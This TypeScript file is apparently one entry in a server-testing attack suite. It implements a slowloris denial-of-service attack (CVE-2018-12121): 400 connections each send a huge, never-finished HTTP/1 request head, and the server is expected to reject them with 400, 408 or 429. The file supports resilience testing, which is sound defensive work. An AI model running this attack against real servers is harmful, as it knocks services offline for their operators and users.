// Heads that are large, and of which the end does not come.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

export const attack: Attack = {
  reference: 'slowloris, CVE-2018-12121 (Node)',
  does: 'sends 960,000 bytes of a head on each of 400 connections, and not its end',
  who: ['known', 'unknown'],
  answers: ['400', '408', '429'],
  run: (target, signal) => {
    const begin = head1(target, 'GET /version').subarray(0, -2)
    const field = Buffer.from(`X-A: ${'y'.repeat(15_990)}\r\n`)
    return attackHttp1(target, signal, { connections: 400 }, () => {
      let sent = 0
      return { next: () => (sent++ === 0 ? begin : sent <= 60 ? field : undefined) }
    })
  },
}
